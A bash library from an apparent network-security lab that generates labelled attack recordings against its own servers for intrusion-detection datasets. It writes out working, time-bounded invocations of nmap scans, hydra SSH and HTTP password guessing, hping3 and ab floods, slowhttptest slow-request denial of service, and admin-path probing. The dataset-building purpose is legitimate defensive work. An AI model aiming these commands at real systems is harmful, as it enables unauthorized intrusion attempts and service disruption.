# Real attack tools against the laboratory's own servers, each bounded in count and time. Sourced.
# shellcheck shell=bash

# attack FILE CLASS ATTACKER VICTIM COMMAND...: runs it and adds a line with its times to the manifest. A tool that is missing or cannot be started ends the recording;
# any other status is told only: most of these tools end with one where they found nothing, or were ended in time. What was really sent, tools/verify.py counts.
attack() {
    local file=$1 class=$2 from=$3 victim=$4 start end status=0; shift 4
    echo "== $1" >>"$LAB_DIR/attacks.log"
    start=$(date +%s.%3N)
    "$@" >>"$LAB_DIR/attacks.log" 2>&1 || status=$?
    end=$(date +%s.%3N)
    case "$status" in 126 | 127) die "$1: the tool could not be started (status $status): $(tail -n 2 "$LAB_DIR/attacks.log" | tr '\n' ' ')" ;; esac
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\tbenign\n' "$file" "$class" "$from" "$victim" "$start" "$end" "${TOOL_WORDS[$1]:-$1}" "${TOOL_FORGED[$1]:-}" "${LAB_SOURCE:-nethawk-lab}" >>"$LAB_DIR/manifest"
    say "  $class from $from: $(awk -v a="$start" -v b="$end" 'BEGIN { printf "%.1f s", b - a }')$([ "$status" = 0 ] || echo ", status $status")"
}

# verify_attack FILE: refuses a recording that does not hold the attack of its row in the manifest (of the folder that FILE lies in).
verify_attack() {
    local reason
    cp "$LAB_DIR/manifest.all" "$(dirname "$1")/MANIFEST.tsv"
    reason=$(python3 "$LAB_HOME/tools/verify.py" "$(dirname "$1")/MANIFEST.tsv" "$1") && return
    say "  not kept: $reason; the tool said: $(tail -n 3 "$LAB_DIR/attacks.log" | tr '\n' ' ' | cut -c1-300)"
    return 1
}

# The source is the network: whoever trains holds out all recordings of it together, however many collections there are.
manifest_header() { printf 'file\tclass\tattacker\tvictim\tstart\tend\ttool\tforged\tsource\tbackground\n'; }

nmap_syn() { ns "$1" timeout 60 nmap -n -Pn -sS -T4 --max-rate 150 --top-ports 300 "$2"; }
nmap_connect() { ns "$1" timeout 60 nmap -n -Pn -sT -T4 --max-rate 150 --top-ports 300 "$2"; }
nmap_sweep() { ns "$1" timeout 60 nmap -n -Pn -sS -T4 --max-retries 1 -p "$3" "$2"; }

# hydra_ssh HOST TARGET COUNT [SECONDS]: password guesses with hydra, six at a time.
hydra_ssh() {
    awk -v n="$3" 'BEGIN { split("summer winter dragon shadow master monkey silver purple hunter orange", w, " "); for (i = 0; i < n; i++) print w[i % 10 + 1] 1980 + i }' >"$LAB_DIR/passwords"
    (cd "$LAB_DIR" && ns "$1" timeout "${4:-45}" hydra -I -t 6 -w 4 -l admin -P "$LAB_DIR/passwords" "ssh://$2")
}

# hping_syn HOST TARGET PORT COUNT: about a thousand a second.
hping_syn() { ns "$1" timeout 30 hping3 -q -S -p "$3" -c "$4" -i u1000 "$2"; }
hping_udp() { ns "$1" timeout 30 hping3 -q --udp -p "$3" -d 40 -c "$4" -i u1000 "$2"; }
hping_icmp() { ns "$1" timeout 30 hping3 -q --icmp -d 40 -c "$3" -i u1000 "$2"; }

nmap_stealth() { ns "$1" timeout 40 nmap -n -Pn -sF -T4 --max-rate 100 --top-ports 150 "$2"; ns "$1" timeout 40 nmap -n -Pn -sX -T4 --max-rate 100 --top-ports 100 "$2"; }
nmap_udp() { ns "$1" timeout 60 nmap -n -Pn -sU -T4 --max-retries 1 --top-ports 60 "$2"; }

# hydra_http HOST TARGET COUNT: guesses against a page that asks for a password.
hydra_http() {
    seq -f 'secret%g' "$3" >"$LAB_DIR/http-passwords"
    (cd "$LAB_DIR" && ns "$1" timeout 45 hydra -I -t 4 -l admin -P "$LAB_DIR/http-passwords" "http-get://$2/login")
}

# ab_flood HOST URL COUNT: complete requests, as fast as forty connections carry them.
ab_flood() { ns "$1" timeout 30 ab -q -r -s 5 -n "$3" -c 40 "$2"; }

# slow_http HOST URL -H|-B: connections that never finish their header or body.
slow_http() { (cd "$LAB_DIR" && ns "$1" timeout 60 slowhttptest "$3" -c 150 -r 20 -i 5 -x 8 -l 30 -p 3 -u "$2"); }

# path_guess HOST URL COUNT: looks for forgotten pages, one after the other over one connection.
path_guess() {
    local i urls=()
    for i in $(seq "$3"); do urls+=(-o /dev/null "$2/$(printf 'admin backup old test config login shell upload db private' | cut -d' ' -f$((i % 10 + 1)))$i.php"); done
    ns "$1" curl -s -m 60 -A 'Mozilla/5.0' "${urls[@]}"
}

# The attacks in attacks/: `tool NAME CLASS HOST VICTIM [ATTACKER|- [INTERFACE [LENGTH]]]` declares one, a function of that name makes it. The attacker is HOST's address
# unless said ("-": none, its addresses are forged); INTERFACE of the gateway is where it is recorded, LENGTH what is kept of each packet.
# TOOL_WORDS: what the manifest's column `tool` says, where that is more than the name.
declare -A TOOL_WORDS TOOL_FORGED TOOL_CLASS TOOL_HOST TOOL_VICTIM TOOL_ATTACKER TOOL_INTERFACE TOOL_LENGTH
TOOLS=()
declare -A ADDRESS=([a1]=203.0.113.66 [a2]=203.0.113.77 [a3]=198.51.100.88 [a4]=203.0.113.99 [c3]=203.0.113.13 [desk]=10.20.0.101 [evil]=10.20.0.66)
TOOL_PACKAGES=(masscan zmap arp-scan netdiscover nbtscan fping netsniff-ng apache2-utils wrk siege hey medusa ncrack sshpass slowhttptest dirb gobuster ffuf iodine dns2tcp dsniff
    ettercap-text-only thc-ipv6 socat ncat netcat-openbsd t50 httperf onesixtyone ike-scan whatweb wfuzz sqlmap wapiti patator sipvicious xxd python3 bettercap braa smbclient)

tool() {
    TOOLS+=("$1")
    TOOL_CLASS[$1]=$2 TOOL_HOST[$1]=$3 TOOL_VICTIM[$1]=$4 TOOL_INTERFACE[$1]=${6:-wan0} TOOL_LENGTH[$1]=${7:-0}
    case "${5:-}" in '') TOOL_ATTACKER[$1]=${ADDRESS[$3]} ;; -) TOOL_ATTACKER[$1]= ;; *) TOOL_ATTACKER[$1]=$5 ;; esac
}

# on SECONDS COMMAND...: in the present attacker's namespace, ended after so long; on_host HOST SECONDS COMMAND...: in another's.
on() { local most=$1; shift; ns "$TOOL_NOW" timeout -k 2 "$most" "$@" </dev/stdin; }
on_host() { local host=$1 most=$2; shift 2; ns "$host" timeout -k 2 "$most" "$@"; }

# Background jobs of this shell only.
wait_for_jobs() { local pid; for pid in $(jobs -rp); do wait "$pid" || true; done; }

# What it started in the background ends with it.
run_tool() (
    TOOL_NOW=${TOOL_HOST[$1]} LAB_PIDS=()
    attack "$1.pcap.zst" "${TOOL_CLASS[$1]}" "${TOOL_ATTACKER[$1]}" "${TOOL_VICTIM[$1]}" "$1"
    end_own "${LAB_PIDS[@]}"
)

for part in scan guess flood web covert link newer; do . "$LAB_HOME/attacks/$part.sh"; done
